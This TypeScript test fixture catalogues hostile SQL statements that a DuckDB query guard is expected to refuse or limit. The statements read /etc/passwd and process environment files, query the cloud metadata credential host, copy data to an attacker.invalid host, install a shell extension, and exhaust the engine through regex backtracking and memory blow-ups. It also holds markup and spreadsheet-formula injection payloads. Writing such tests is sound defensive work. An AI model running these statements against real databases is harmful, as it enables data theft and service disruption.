import type { AskErrorCode } from '../../src/query/error'

/**
 * A hostile statement and its outcome: refused with one of these codes, or answered when that does no
 * harm. Numbers are those of the list that the project keeps of such statements.
 */
export interface HostileStatement {
  is: string
  sql: string
  codes: AskErrorCode[]
  answered?: boolean
}

const D = 'ae_provider'
const RECORDS = 'gp_registered_patients'

function refused(is: string, sql: string): HostileStatement {
  return { is, sql, codes: ['sql_refused'] }
}

/** Refused by the guard or by the engine: neither may be the only one that holds. */
function impossible(is: string, sql: string): HostileStatement {
  return { is, sql, codes: ['sql_refused', 'sql_invalid', 'unknown_dataset'] }
}

/** Costs time or memory: ended within its limits, or answered within them. */
function costly(is: string, sql: string): HostileStatement {
  return {
    is,
    sql,
    codes: ['too_slow', 'too_much_memory', 'answer_too_large', 'sql_refused', 'value_invalid', 'sql_invalid'],
    answered: true,
  }
}

const FILES: HostileStatement[] = [
  refused('1 a file by function', "SELECT * FROM read_csv('/etc/passwd')"),
  refused('2 a file as text', "SELECT * FROM read_text('/etc/passwd')"),
  refused('3 a file as bytes', "SELECT * FROM read_blob('/proc/self/environ')"),
  refused('4 a file as a table', "SELECT * FROM '/etc/passwd'"),
  impossible('4 a file as a quoted table', 'SELECT * FROM "/etc/passwd.csv"'),
  impossible('4 a file after a comma', `SELECT * FROM ${D}, 'x.parquet'`),
  refused('5 a listing of files', "SELECT * FROM glob('/etc/*')"),
  refused('6 a sniffed file', "SELECT * FROM sniff_csv('/etc/passwd')"),
  refused('7 metadata of a file', "SELECT * FROM parquet_metadata('datasets/catalog.parquet')"),
  refused('8 JSON of a file', "SELECT * FROM read_json_auto('file:///etc/hosts')"),
  refused('9 standard input', "SELECT * FROM read_csv('/dev/stdin')"),
  refused('10 a path out of a list', "SELECT * FROM read_parquet(['d.parquet', '../../../../etc/passwd'])"),
  refused('10 in capitals and with a comment', "SELECT * FROM READ_PARQUET /* x */ ('d.parquet')"),
  refused('10 as a quoted name', `SELECT * FROM "read_parquet"('d.parquet')`),
  refused('11 the host that gives credentials', "SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/')"),
  refused('12 another host', "SELECT * FROM 'https://attacker.invalid/x.parquet'"),
  refused('13 another bucket', "SELECT * FROM read_parquet('s3://other-bucket/x')"),
  refused('13 our own bucket', "SELECT * FROM read_parquet('datasets/_removed.json')"),
  impossible('13 a part by its key', `SELECT * FROM "datasets/${D}.parquet"`),
  refused('14 a table by name of text', "SELECT * FROM query_table('/etc/passwd')"),
  impossible('15 a path in a struct', "SELECT * FROM {'path': '~/x.csv'}"),
]

const STATE: HostileStatement[] = [
  refused('16 COPY to a file', `COPY ${D} TO '/tmp/x.csv'`),
  refused('17 COPY to a host', `COPY ${D} TO 'https://attacker.invalid/x'`),
  refused('18 EXPORT', "EXPORT DATABASE '/tmp/x'"),
  refused('19 ATTACH a file', "ATTACH '/tmp/p.db'"),
  refused('20 ATTACH memory', "ATTACH ':memory:' AS m"),
  refused('21 CREATE TABLE', 'CREATE TABLE t AS SELECT 1'),
  refused('22 CREATE MACRO', "CREATE MACRO lower(x) AS 'pwned'"),
  refused('23 DROP', `DROP TABLE ${D}`),
  refused('24 UPDATE', `UPDATE ${D} SET org_code = 'x'`),
  refused('25 INSERT', `INSERT INTO ${D} SELECT * FROM ${D}`),
  refused('26 INSERT behind WITH', `WITH x AS (SELECT 1) INSERT INTO ${D} SELECT * FROM x`),
  refused('26 DELETE behind two WITH', `WITH x AS (SELECT 1), y(a) AS MATERIALIZED (SELECT 2) DELETE FROM ${D}`),
  refused('27 a second statement', `SELECT 1; DROP TABLE ${D}`),
  refused('27 a second statement behind a comment', 'SELECT 1 --\n; DROP VIEW x'),
  refused('28 COPY behind a comment', `/* SELECT */ COPY ${D} TO '/tmp/x'`),
  refused('29 BEGIN', 'BEGIN'),
  refused('30 CHECKPOINT', 'CHECKPOINT'),
  refused('30 CALL', 'CALL pragma_version()'),
  refused('31 PREPARE', 'PREPARE p AS SELECT 1'),
  refused('31 EXECUTE', 'EXECUTE p'),
  refused('32 a statement as text', "SELECT * FROM query('COPY d TO x')"),
  refused('a table made by SELECT', `SELECT * INTO t FROM ${D}`),
  refused('a seed for the next caller', 'SELECT setseed(0.5)'),
  refused('101 ROLLBACK between', 'SELECT 1; COMMIT; DROP SCHEMA main CASCADE'),
]

const SETTINGS: HostileStatement[] = [
  refused('33 INSTALL', 'INSTALL httpfs'),
  refused('34 LOAD', "LOAD '/tmp/e.duckdb_extension'"),
  refused('35 INSTALL from others', 'INSTALL shellfs FROM community'),
  refused('36 SET memory', "SET memory_limit = '100GB'"),
  refused('37 SET access', 'SET enable_external_access = true'),
  refused('38 SET lock', 'SET lock_configuration = false'),
  refused('38 RESET', 'RESET ALL'),
  refused('39 PRAGMA', 'PRAGMA enable_profiling'),
  refused('40 a log file', "SET log_query_path = '/tmp/q'"),
  refused('41 a secret', 'CREATE SECRET s (TYPE s3)'),
  refused('42 settings', 'SELECT * FROM duckdb_settings()'),
  refused('42 settings as a view', 'SELECT * FROM duckdb_views'),
  refused('42 databases', 'PRAGMA database_list'),
  refused('42 one setting', "SELECT current_setting('temp_directory')"),
  refused('42 the catalogue of the engine', 'SELECT * FROM information_schema.tables'),
  refused('42 the same in another manner', 'SELECT * FROM sqlite_master'),
  refused('42 the same as PostgreSQL has it', 'SELECT * FROM pg_catalog.pg_class'),
  refused('42 our own schemas', `SELECT * FROM __plan.${D}`),
  refused('42 our own schemas, quoted', `SELECT * FROM "__run"."${D}"`),
  impossible('42 SHOW', 'SHOW TABLES'),
  impossible('42 DESCRIBE everything', 'DESCRIBE'),
  refused('42 the environment', "SELECT getenv('HOME')"),
  refused('a parameter', `SELECT * FROM ${D} WHERE org_code = $1`),
]

const CPU: HostileStatement[] = [
  costly('43 a long range', 'SELECT count(*) FROM range(10000000000)'),
  costly('44 a cross join', 'SELECT sum(a.range + b.range) FROM range(1000000) a, range(1000000) b'),
  costly(
    '45 a recursion without end',
    'WITH RECURSIVE t AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM t) SELECT count(*) FROM t',
  ),
  costly(
    '46 a recursion that doubles',
    'WITH RECURSIVE t AS (SELECT 1 AS i UNION ALL SELECT a.i FROM t a, (SELECT 1 UNION ALL SELECT 2) b) SELECT count(*) FROM t',
  ),
  refused('47 EXPLAIN ANALYZE', 'EXPLAIN ANALYZE SELECT count(*) FROM range(10000000000)'),
  costly('48 a regular expression that backtracks', "SELECT regexp_matches(lpad('', 10000, 'a'), '(a+)+$b')"),
  costly('49 a LIKE of many %', "SELECT lpad('', 10000, 'a') LIKE '%a%a%a%a%a%a%a%a%a%a%a%b'"),
  refused('49 a LIKE that tries everything', "SELECT lpad('', 1000, 'a') LIKE '%_a%_a%_a%b'"),
  refused('49 the same, put together', "SELECT lpad('', 1000, 'a') ILIKE '%_a%' || '_a%_a%b'"),
  refused('49 the same as an operator', "SELECT lpad('', 1000, 'a') ~~ '%_a%_a%_a%b'"),
  refused('49 the same as a function', `SELECT "~~"(lpad('', 1000, 'a'), '%_a%_a%_a%b')`),
  refused('49 a GLOB that tries everything', "SELECT lpad('', 300, 'a') GLOB '*?a*?a*?a*?a*b'"),
  refused('50 a product of lengths', "SELECT levenshtein(repeat('a', 50000), repeat('b', 50000))"),
  refused('51 another', "SELECT damerau_levenshtein('a', 'b')"),
  refused('51 another', "SELECT jaro_winkler_similarity('a', 'b')"),
  costly('52 hashes', 'SELECT max(md5(range::VARCHAR)) FROM range(100000000)'),
  costly('43 rows that never come', 'SELECT range FROM range(10000000000) WHERE range < 0'),
  costly(
    '44 a sort of a cross join',
    `SELECT a.* FROM ${RECORDS} a, ${RECORDS} b, ${RECORDS} c, ${RECORDS} d ORDER BY random()`,
  ),
]

const MEMORY: HostileStatement[] = [
  refused('53 a long text', "SELECT length(repeat('A', 2000000000))"),
  refused('54 a padded text', "SELECT length(lpad('', 2000000000, 'x'))"),
  costly('55 a long bit string', "SELECT bitstring('1', 2000000000)"),
  costly('56 a long list', 'SELECT len(range(1000000000))'),
  refused(
    '56 a list of seconds',
    "SELECT len(generate_series(DATE '0001-01-01', DATE '9999-01-01', INTERVAL 1 SECOND))",
  ),
  refused('56 steps from elsewhere', 'SELECT len(range(a, b, c)) FROM (SELECT now() a, now() b, to_microseconds(1) c)'),
  costly('56 a series of days', "SELECT len(generate_series(DATE '0001-01-01', DATE '9999-01-01', INTERVAL '1 day'))"),
  costly('57 a long list, unpacked', 'SELECT count(*) FROM (SELECT unnest(range(500000000)))'),
  costly('58 a wide format', "SELECT length(format('{:>2000000000}', 'x'))"),
  costly('59 lists in a list', 'SELECT list_transform(range(10000), x -> range(100000))'),
  costly('60 a wide number', "SELECT length(printf('%1000000000d', 1))"),
  costly('61 a quantile', 'SELECT quantile_disc(range, 0.5) FROM range(500000000)'),
  costly('62 a list of everything', 'SELECT len(list(range)) FROM range(100000000)'),
  costly('62 a text of everything', "SELECT length(string_agg(range::VARCHAR, ',')) FROM range(100000000)"),
  costly('62 a random order', 'SELECT range FROM range(100000000) ORDER BY random()'),
  costly('62 distinct values', 'SELECT count(DISTINCT range) FROM range(100000000)'),
  costly('62 a window', 'SELECT sum(range) OVER (ORDER BY -range) FROM range(100000000)'),
]

function times(count: number, text: (i: number) => string, between = ''): string {
  return Array.from({ length: count }, (_, i) => text(i)).join(between)
}

const PARSER: HostileStatement[] = [
  refused('63 brackets', `SELECT ${times(2000, () => '(')}1${times(2000, () => ')')}`),
  refused('64 nested SELECT', `SELECT * FROM ${times(300, () => '(SELECT * FROM ')}range(1)${times(300, () => ')')}`),
  {
    is: '65 a long IN',
    sql: `SELECT count(*) FROM range(1) WHERE range IN (${times(1_000_000, String, ',')})`,
    codes: ['sql_too_long'],
  },
  refused('65 an IN of 8 KB', `SELECT 1 IN (${times(2000, () => '1', ',')})`),
  { is: '66 many columns', sql: `SELECT ${times(100_000, () => '1', ',')}`, codes: ['sql_too_long'] },
  refused(
    '67 UNION ALL that breaks the engine',
    times(86, () => 'SELECT 1', ' UNION ALL '),
  ),
  { is: '67 5,000 UNION ALL', sql: times(5000, () => 'SELECT 1', ' UNION ALL '), codes: ['sql_too_long'] },
  costly(
    '67 as many as are allowed',
    times(41, () => 'SELECT 1', ' UNION ALL '),
  ),
  refused('68 a join of 60', `SELECT 1 FROM ${times(60, (i) => `${D} t${i}`, ' JOIN ')}`),
  costly('68 a product of 60', `SELECT count(*) FROM ${times(60, (i) => `${D} t${i}`, ', ')}`),
  costly(
    '68 as many joins as are allowed',
    `SELECT count(*) FROM ${D} ${times(20, (i) => `JOIN ${D} t${i} USING (org_code)`, ' ')}`,
  ),
  { is: '69 a long literal', sql: `SELECT '${'x'.repeat(50_000_000)}'`, codes: ['sql_too_long'] },
  refused('70 nested CASE', `SELECT ${times(200, () => 'CASE WHEN true THEN ')}1${times(200, () => ' END')}`),
  refused('70 nested lists', `SELECT ${times(500, () => '[')}1${times(500, () => ']')}`),
  costly('70 a long sum', `SELECT ${times(1400, () => '1', '+')}`),
  costly('70 a long NOT', `SELECT ${times(1400, () => 'NOT ')} true`),
  { is: 'an open quotation mark', sql: "SELECT 'x", codes: ['sql_invalid'] },
  { is: 'an open comment', sql: 'SELECT 1 /* /* */', codes: ['sql_invalid'] },
  { is: 'an open dollar', sql: 'SELECT $a$ x', codes: ['sql_invalid'] },
  { is: 'nothing', sql: ' -- nothing\n;', codes: ['sql_empty'] },
  refused('a character 0', 'SELECT 1 \0'),
  refused('half a character', "SELECT '\ud800'"),
]

const OUTPUT: HostileStatement[] = [
  { is: '71 rows without end', sql: 'SELECT * FROM range(50000000)', codes: [], answered: true },
  costly('72 wide rows', "SELECT lpad('', 10000, 'x') FROM range(2000)"),
  { is: '73 markup as a name', sql: `SELECT 1 AS "<img src=x onerror=alert(1)>"`, codes: [], answered: true },
  { is: '74 a formula', sql: `SELECT '=HYPERLINK("https://attacker.invalid")' AS f`, codes: [], answered: true },
  {
    is: '75 numbers that JSON has not',
    sql: "SELECT 'NaN'::DOUBLE, 'Infinity'::DOUBLE, 9007199254740993",
    codes: [],
    answered: true,
  },
  { is: '76 control characters', sql: 'SELECT chr(7) || chr(8238) || chr(27)', codes: [], answered: true },
  {
    is: '80 a name of every object',
    sql: 'SELECT 1 AS "__proto__", {\'__proto__\': 2} AS constructor',
    codes: ['sql_refused'],
  },
]

export const HOSTILE: readonly HostileStatement[] = [
  ...FILES,
  ...STATE,
  ...SETTINGS,
  ...CPU,
  ...MEMORY,
  ...PARSER,
  ...OUTPUT,
]
